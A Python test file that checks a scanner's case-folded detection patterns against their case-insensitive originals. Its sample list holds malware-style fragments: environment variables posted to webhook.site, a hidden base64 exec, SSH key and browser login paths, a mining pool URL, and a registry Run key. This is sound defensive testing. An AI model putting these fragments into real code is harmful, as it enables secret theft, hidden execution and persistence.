"""The folded pre-pass patterns must answer exactly as the case-insensitive originals."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.analyzers.python import tokens

PAIRS = [(tokens.IND_T, tokens.IND_FOLDED), (tokens.STRONG, tokens.STRONG_FOLDED),
         (tokens.SRC_T, tokens.SRC_FOLDED)]
SAMPLES = [
    b"requests.post('https://WEBHOOK.SITE/abc', data=dict(OS.environ))",
    b"x = 1" + b" " * 160 + b"exec(payload)",
    b"import base64; exec(base64.B64DECODE('" + b"QUJD" * 20 + b"'))",
    b"HOME/.SSH/id_rsa", b"open('Login Data')", b"Stratum+TCP://pool", b"nothing here at all",
    b"subprocess.Popen(['curl', url])", b"winreg CurrentVersion\\\\Run",
]


@pytest.mark.parametrize("sample", SAMPLES)
@pytest.mark.parametrize("original,folded", PAIRS)
def test_folded_pattern_agrees_on_known_samples(original, folded, sample):
    assert folded.search(sample.lower()) == bool(original.search(sample))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SAMPLES + [b"\t", b" ", b"(", b"'", b"A", b"z", b"\n"]),
                max_size=12).map(b"".join))
def test_folded_pattern_agrees_on_mixtures(text):
    for original, folded in PAIRS:
        assert folded.search(text.lower()) == bool(original.search(text))
